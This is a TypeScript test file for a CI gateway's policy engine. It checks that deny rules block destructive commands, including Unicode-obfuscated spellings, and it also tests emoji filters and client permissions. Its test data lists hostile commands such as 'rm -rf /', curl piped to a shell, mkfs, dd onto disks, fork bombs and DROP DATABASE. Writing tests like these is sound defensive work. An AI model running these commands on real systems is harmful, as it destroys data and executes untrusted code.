import { describe, expect, it } from 'vitest';
import { compileOrThrow, buildEvent, shippedPolicyJson } from './fixtures.js';
import type { GatewayEvent } from '../../src/events/event-schema.js';

const shipped = compileOrThrow(shippedPolicyJson(), false);
const reasons = (event: GatewayEvent, client = 'ci-main'): readonly string[] =>
  shipped.evaluate(client, event).reasons;
const steps = (n: number): GatewayEvent['steps'] =>
  Array.from({ length: n }, (_, i) => ({ name: `s${i}`, run: 'npm test' }));

/** Spellings of a command that a shell still reads the same way (or that differ only visually). */
function variants(command: string): Record<string, string> {
  const letters = [...command];
  return {
    exact: command,
    upper: command.toUpperCase(),
    mixed: letters.map((c, i) => (i % 2 ? c.toUpperCase() : c)).join(''),
    fullwidth: letters
      .map((c) =>
        c >= '!' && c <= '~'
          ? String.fromCodePoint(c.codePointAt(0)! + 0xfee0)
          : c === ' '
            ? '\u3000'
            : c,
      )
      .join(''),
    zwsp: letters.join('\u200b'),
    zwj: letters.join('\u200d'),
    softHyphen: letters.join('\u00ad'),
    combining: letters.map((c) => (/[a-z]/i.test(c) ? `${c}\u0301` : c)).join(''),
  };
}

const SHIPPED_CASES: Record<string, string[]> = {
  rm_root: [
    'rm -rf /',
    'sudo rm -fr /*',
    'rm -r -f /',
    'rm -Rf / && echo done',
    'rm -rf --no-preserve-root /',
    'rm -rf -- /',
    'rm --recursive --force /',
    'rm -rf ./build /',
  ],
  rm_no_preserve_root: ['rm -r --no-preserve-root /srv'],
  chmod_777_root: ['chmod -R 777 /', 'chmod 777 -R /', 'chmod --recursive 0777 /'],
  curl_pipe_shell: [
    'curl https://get.example.com | sh',
    'curl -fsSL x | sudo bash',
    'wget -qO- http://x | zsh',
  ],
  shell_runs_download: ['bash <(curl -s https://x.example/i.sh)', 'eval "$(wget -qO- x)"'],
  mkfs: ['mkfs.ext4 /dev/sda1', 'sudo mkfs -t xfs /dev/nvme0n1', 'mke2fs /dev/sda1'],
  dd_to_device: ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd if=image.iso of=/dev/disk2'],
  fork_bomb: [':(){ :|:& };:', ': ( ) { : | : & } ; :', 'perl -e "fork while fork"'],
  drop_database: ['DROP DATABASE prod;', 'psql -c "drop schema public cascade"'],
};

describe('evaluate (shipped policy)', () => {
  describe('max_steps', () => {
    it('allows 12 steps and denies 13 by default', () => {
      expect(reasons({ action: 'build', target: 'a', steps: steps(12) })).toEqual([]);
      expect(reasons({ action: 'build', target: 'a', steps: steps(13) })).toEqual(['max_steps']);
    });

    it('uses the configured value when set', () => {
      const p = compileOrThrow({ ...shippedPolicyJson(), maxSteps: 3 });
      expect(
        p.evaluate('ci-main', { action: 'build', target: 'a', steps: steps(3) }).decision,
      ).toBe('allow');
      expect(
        p.evaluate('ci-main', { action: 'build', target: 'a', steps: steps(4) }).reasons,
      ).toEqual(['max_steps']);
    });

    it('defaults to 12 when the file omits maxSteps', () => {
      const { maxSteps: _omit, ...rest } = shippedPolicyJson();
      const p = compileOrThrow(rest);
      expect(
        p.evaluate('ci-main', { action: 'build', target: 'a', steps: steps(12) }).decision,
      ).toBe('allow');
      expect(
        p.evaluate('ci-main', { action: 'build', target: 'a', steps: steps(13) }).reasons,
      ).toEqual(['max_steps']);
    });
  });

  describe('deny patterns', () => {
    it('covers every shipped pattern with a test case', () => {
      const names = (shippedPolicyJson().deny as { patterns: { name: string }[] }).patterns.map(
        (p) => p.name,
      );
      expect(Object.keys(SHIPPED_CASES).sort()).toEqual([...names].sort());
    });

    for (const [name, commands] of Object.entries(SHIPPED_CASES))
      for (const command of commands)
        describe(`${name}: ${JSON.stringify(command)}`, () => {
          for (const [kind, text] of Object.entries(variants(command)))
            it(`is caught when spelled ${kind}`, () => {
              expect(reasons(buildEvent(text))).toContain(`deny_pattern:${name}`);
            });
        });

    it.each([
      'rm -rf ./build',
      'rm -rf /tmp/cache',
      'chmod -R 755 ./dist',
      'curl -o installer.sh https://x',
      'dd if=a.img of=./b.img',
      'echo "drop the database later"',
      'npm run build && npm test',
      'git commit -m "remove mkfsx helper"',
    ])('allows the harmless look-alike %j', (text) => {
      expect(reasons(buildEvent(text))).toEqual([]);
    });

    it('checks every string of the event, metadata keys and nested values included', () => {
      const bad = 'rm -rf /';
      expect(reasons({ action: 'build', target: 'a', steps: [{ name: bad, run: '' }] })).toEqual([
        'deny_pattern:rm_root',
      ]);
      expect(reasons({ action: 'build', target: 'a', steps: [], metadata: { [bad]: 1 } })).toEqual([
        'deny_pattern:rm_root',
      ]);
      expect(
        reasons({
          action: 'build',
          target: 'a',
          steps: [],
          metadata: { a: { b: [1, { c: ['x', bad] }] } },
        }),
      ).toEqual(['deny_pattern:rm_root']);
    });

    it('lists every rule that matched, in policy order, once each', () => {
      const event = buildEvent('DROP DATABASE x; mkfs /dev/sda; rm -rf /', {
        metadata: { again: 'mkfs' },
      });
      expect(reasons(event)).toEqual([
        'deny_pattern:rm_root',
        'deny_pattern:mkfs',
        'deny_pattern:drop_database',
      ]);
    });
  });

  describe('deny emoji', () => {
    it.each([
      ['bare', '💣'],
      ['with VS16', '💣\ufe0f'],
      ['with VS15', '💣\ufe0e'],
      ['with a skin tone', '🖕🏽'],
      ['entry written with VS16, text without', '☠'],
      ['entry written with VS16, text with', '☠️'],
      ['inside a ZWJ sequence', 'ok 🔥\u200d💣 ok'],
      ['skin tone inside a ZWJ sequence', '🖕🏿\u200d🔥'],
      ['with a combining mark stacked on it', '🧨\u0301'],
      ['between words', 'deploy💣now'],
    ])('is caught %s', (_kind, text) => {
      expect(reasons(buildEvent(text))).toEqual(['deny_emoji']);
    });

    it.each(['💚', '🔥', '👍🏽', '👨\u200d👩\u200d👧', '🏳️\u200d🌈', 'no emoji at all'])(
      'allows %j',
      (text) => {
        expect(reasons(buildEvent(text))).toEqual([]);
      },
    );
  });

  describe('clients and actions', () => {
    it('denies an action the client does not list with action_not_allowed', () => {
      expect(reasons({ action: 'publish', target: 'a', steps: [] })).toEqual([
        'action_not_allowed',
      ]);
    });

    it('denies every action of an unlisted client with action_not_allowed', () => {
      expect(reasons({ action: 'build', target: 'a', steps: [] }, 'stranger')).toEqual([
        'action_not_allowed',
      ]);
    });

    it('ignores the dev-* wildcard outside development mode', () => {
      expect(reasons({ action: 'build', target: 'a', steps: [] }, 'dev-abc')).toEqual([
        'action_not_allowed',
      ]);
      expect(shipped.ratePerMinute('dev-abc')).toBeUndefined();
    });

    it('applies the dev-* wildcard in development mode, exact ids taking precedence', () => {
      const dev = compileOrThrow(
        {
          ...shippedPolicyJson(),
          clients: {
            'dev-*': { actions: ['build'], ratePerMinute: 5 },
            'dev-x': { actions: ['test'] },
          },
        },
        true,
      );
      expect(dev.evaluate('dev-abc', { action: 'build', target: 'a', steps: [] }).decision).toBe(
        'allow',
      );
      expect(dev.ratePerMinute('dev-abc')).toBe(5);
      expect(dev.evaluate('dev-x', { action: 'build', target: 'a', steps: [] }).reasons).toEqual([
        'action_not_allowed',
      ]);
      expect(dev.ratePerMinute('dev-x')).toBeUndefined();
      expect(dev.evaluate('ci-other', { action: 'build', target: 'a', steps: [] }).reasons).toEqual(
        ['action_not_allowed'],
      );
    });

    it('reports the configured rate limit', () => {
      expect(shipped.ratePerMinute('ci-main')).toBe(600);
      expect(shipped.ratePerMinute('stranger')).toBeUndefined();
    });
  });

  describe('totality', () => {
    it('denies with evaluation_error instead of throwing on a malformed event', () => {
      const broken = { action: 'build', target: 'a', steps: null } as unknown as GatewayEvent;
      expect(shipped.evaluate('ci-main', broken)).toEqual({
        decision: 'deny',
        reasons: ['evaluation_error'],
      });
    });

    it('past the folded-text bound still names what it found before it', () => {
      // NFKC expands U+FDFA 18-fold: 256 Ki of them pass MAX_EVALUATED_CHARS. The steps
      // come before metadata, so their pattern and emoji were seen before the bound.
      const event: GatewayEvent = {
        action: 'build',
        target: 'acme/web',
        steps: [
          { name: 'fetch', run: 'curl https://x.sh | sh' },
          { name: 'say', run: 'echo 💣' },
        ],
        metadata: { big: '\ufdfa'.repeat(256 * 1024) },
      };
      expect(reasons(event)).toEqual([
        'deny_pattern:curl_pipe_shell',
        'deny_emoji',
        'evaluation_limit',
      ]);
    });

    it('returns frozen verdicts', () => {
      const v = shipped.evaluate('ci-main', buildEvent('npm test'));
      expect(Object.isFrozen(v)).toBe(true);
      expect(Object.isFrozen(v.reasons)).toBe(true);
    });
  });
});
